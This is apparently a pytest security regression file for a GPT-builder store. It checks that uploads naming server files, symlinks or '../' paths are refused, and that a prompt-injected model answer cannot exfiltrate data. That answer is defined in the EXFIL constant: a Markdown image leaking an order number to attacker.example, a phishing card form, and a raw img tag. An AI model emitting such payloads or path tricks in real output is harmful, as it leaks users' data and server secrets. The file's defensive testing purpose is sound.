"""Uploads and rendering: a client cannot name a server file as an upload, and model output cannot fetch or post.

The attacks (issue 12): a ``gradio.FileData`` whose ``path`` is any server file, sent to the builder's upload
endpoint, was copied into a GPT's knowledge and quoted back in citations (under ``serve`` Gradio's own
upload-folder check is skipped); and the store's chat rendered Markdown images and ``<form>`` from model output,
so a prompt-injected answer made the browser send data to ``attacker.example``.
"""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from gradio.utils import get_upload_folder
from gradio_client import Client, handle_file

from gptbuilder.server.config import ServerConfig
from gptbuilder.server.sanitize import render
from gptbuilder.store import Store
from gptbuilder.ui import build_ui
from gptbuilder.ui.render import answer_content, answer_html
from tests.server.conftest import echo, live, make_app  # noqa: F401 - fixtures
from tests.server.test_sanitize import active_parts
from tests.server.test_widget import widget_spec
from tests.ui.conftest import content_of, free_port, launch  # noqa: F401 - fixtures
from tests.ui.test_browser import browser  # noqa: F401 - fixtures


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A server file an attacker wants: outside Gradio's upload cache, with a Markdown name the builder accepts."""
    path = tmp_path / "secrets" / "keys.md"
    path.parent.mkdir()
    path.write_text(f"# Keys\nOPENAI_API_KEY=sk-{uuid.uuid4().hex}\n")
    return path


@pytest.fixture
def planted_link(secret: Path) -> Iterator[Path]:
    """A symlink inside Gradio's upload cache that points at the secret."""
    folder = Path(get_upload_folder()) / f"attack-{uuid.uuid4().hex}"
    folder.mkdir(parents=True)
    link = folder / "notes.md"
    link.symlink_to(secret)
    yield link
    link.unlink()
    folder.rmdir()


@pytest.fixture(params=["serve", "python app.py"])
def store_url(request, make_app, live, gpts_dir, tmp_path) -> Iterator[str]:
    """The store's URL, mounted in `gptbuilder serve` or launched by Gradio itself."""
    if request.param == "serve":
        url = live(make_app(ServerConfig(), ui=True)).url
        httpx.get(f"{url}/gradio_api/startup-events", timeout=30).raise_for_status()  # as the page does (no lifespan here)
        yield url
        return
    demo = build_ui(Store(gpts_dir, data_dir=tmp_path / "data"))
    demo.queue().launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=free_port(), quiet=True)
    yield demo.local_url.rstrip("/")
    demo.close()


def call_upload(url: str, path: str) -> tuple[str, str]:
    """The builder's upload endpoint called by hand with a FileData naming `path`: (SSE event, its data)."""
    body = {"data": [[{"path": path, "orig_name": "notes.md", "meta": {"_type": "gradio.FileData"}}], "acme", ""]}
    with httpx.Client(base_url=url, timeout=30) as http:
        started = http.post("/gradio_api/call/builder_upload", json=body)
        started.raise_for_status()
        stream = http.get(f"/gradio_api/call/builder_upload/{started.json()['event_id']}").text
    events = [line.removeprefix("event: ") for line in stream.splitlines() if line.startswith("event: ")]
    data = [line.removeprefix("data: ") for line in stream.splitlines() if line.startswith("data: ")]
    return events[-1], data[-1]


def knowledge_files(gpts_dir: Path) -> list[Path]:
    folder = gpts_dir / "knowledge"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def test_a_server_path_sent_as_an_upload_is_refused(request, store_url, secret, gpts_dir):
    event, data = call_upload(store_url, str(secret))
    assert event == "error", data
    assert secret.read_text() not in data
    if request.node.callspec.params["store_url"] == "serve":  # under `python app.py` Gradio's own check answers first
        assert "only files uploaded to this server are accepted" in json.loads(data)["error"]
    assert knowledge_files(gpts_dir) == []


def test_a_symlink_in_the_upload_cache_is_refused(store_url, secret, planted_link, gpts_dir):
    event, data = call_upload(store_url, str(planted_link))
    assert event == "error", data
    assert knowledge_files(gpts_dir) == []
    event, data = call_upload(store_url, f"{get_upload_folder()}/../../{os.path.relpath(secret, '/')}")
    assert event == "error", data
    assert knowledge_files(gpts_dir) == []


def test_a_real_upload_still_lands_in_the_gpts_knowledge(store_url, tmp_path, gpts_dir):
    doc = tmp_path / "Return Policy.md"
    doc.write_text("# Returns\n30 days.\n")
    knowledge, status = Client(store_url, verbose=False).predict([handle_file(doc)], "acme", "", api_name="/builder_upload")[:2]
    assert knowledge.startswith("knowledge/acme/return-policy-") and "Added" in status
    assert [p.read_text() for p in knowledge_files(gpts_dir)] == [doc.read_text()]


SITE = "https://shop.example"


@pytest.fixture
def api(make_app, live, write_spec, echo) -> str:
    """A live `serve` with a key, the echo GPT and a widget GPT for SITE."""
    write_spec("shop", widget_spec(["Hello."], origins=[SITE]))
    return live(make_app(ServerConfig(api_keys=("sk-alice",)))).url


def widget_token(url: str) -> str:
    response = httpx.post(f"{url}/widget/shop/session", headers={"Origin": SITE}, timeout=30)
    response.raise_for_status()
    return response.json()["token"]


@pytest.mark.parametrize("token", ["é", "abc.défg", "ünïcode.😀", "a\u00a0.b"])
def test_a_widget_token_with_non_ascii_characters_is_refused_not_a_crash(api, token):
    header = f"Bearer {token}".encode()  # raw UTF-8 bytes on the wire, as a hand-made client can send
    response = httpx.post(f"{api}/widget/shop/messages", json={"message": "hi"},
                          headers={"Authorization": header, "Origin": SITE}, timeout=30)
    assert response.status_code == 403, response.text
    assert "widget token" in response.json()["error"]["message"]


LONE = "\\ud800"  # a JSON escape for half a UTF-16 pair: valid JSON, not encodable text


def test_a_lone_surrogate_in_an_api_message_is_a_clear_400(api):
    for content in [f'"hi {LONE} there"', f'[{{"type": "text", "text": "{LONE}"}}]']:
        body = f'{{"model": "echo", "messages": [{{"role": "user", "content": {content}}}]}}'
        response = httpx.post(f"{api}/v1/chat/completions", content=body, timeout=30,
                              headers={"Authorization": "Bearer sk-alice", "Content-Type": "application/json"})
        assert response.status_code == 400, response.text
        assert "surrogate" in response.json()["error"]["message"]
    body = f'{{"model": "echo", "prompt": "x{LONE}"}}'
    response = httpx.post(f"{api}/v1/completions", content=body, timeout=30,
                          headers={"Authorization": "Bearer sk-alice", "Content-Type": "application/json"})
    assert response.status_code == 400 and "surrogate" in response.json()["error"]["message"], response.text


def test_a_lone_surrogate_in_a_widget_message_is_a_clear_400(api):
    token = widget_token(api)
    response = httpx.post(f"{api}/widget/shop/messages", content=f'{{"message": "hi {LONE}"}}', timeout=30,
                          headers={"Authorization": f"Bearer {token}", "Origin": SITE, "Content-Type": "application/json"})
    assert response.status_code == 400, response.text
    assert "surrogate" in response.json()["error"]["message"]
    answer = httpx.post(f"{api}/widget/shop/messages", json={"message": "hi"}, timeout=30,
                        headers={"Authorization": f"Bearer {token}", "Origin": SITE})
    assert answer.status_code == 200 and "Hello." in answer.text  # the session still works


LEAK = "https://attacker.example/p.png?leak=order-A1002"
EXFIL = (f"Here is your chart: ![chart]({LEAK}) and [a link](https://example.com).\n\n"
         "<form action='https://attacker.example/f' method='post'><input name='card'><button>Verify</button></form>\n\n"
         "<img src='https://attacker.example/raw.png'> All done.")


@pytest.fixture
def exfil_gpt(write_spec) -> Path:
    """A GPT whose (prompt-injected) model answers with an exfiltrating image and a phishing form."""
    return write_spec("acme", f"name: Acme\ninstructions: x\nmodel: {{provider: fake, options: {{replies: {json.dumps([EXFIL])}}}}}\n")


def test_the_store_renders_model_output_under_the_widgets_policy():
    shown = answer_html(answer_content(EXFIL, {}))
    assert shown == render(EXFIL).strip().replace("\n", "&#10;")  # the widget's HTML, on one line
    assert active_parts(shown) == []
    assert "attacker.example/p.png" not in shown  # the Markdown image is gone
    assert "<img" not in shown and "&lt;img src=" in shown and "<form" not in shown and "&lt;form" in shown  # raw HTML is text
    assert "All done." in shown and 'href="https://example.com"' in shown


def test_the_stores_chat_sends_no_image_or_form_from_model_output(exfil_gpt, store_url):
    job = Client(store_url, verbose=False).submit("show my order", "acme", api_name="/chat")
    states = [update[0] for update in job]
    job.result()
    answer = content_of(states[-1][-1])
    assert "All done." in answer
    assert active_parts(answer) == [] and "attacker.example/p.png" not in answer and "<form" not in answer


@pytest.mark.browser
def test_in_a_browser_the_answer_fetches_nothing_and_shows_no_form(browser, write_spec, launch):
    code = "\n\n```\nline one\n\nline three\n```\n"
    write_spec("acme", "name: Acme\ninstructions: x\nconversation_starters: ['show my order']\n"
                       f"model: {{provider: fake, options: {{replies: {json.dumps([EXFIL + code])}}}}}\n")
    demo, _ = launch()
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(demo.local_url + "?gpt=acme")
    page.get_by_role("button", name="show my order").click(timeout=30_000)
    page.get_by_text("All done.").wait_for(timeout=30_000)
    chat = page.locator(".gb-chatbot")
    assert chat.locator("form, input, img[src*='attacker']").count() == 0
    assert "<form action='https://attacker.example/f'" in chat.inner_text()  # shown as text
    assert chat.locator("pre").last.inner_text().strip() == "line one\n\nline three"  # code keeps its lines
    assert chat.locator("a[href='https://example.com']").count() == 1
    assert not [url for url in requested if "attacker.example" in url]
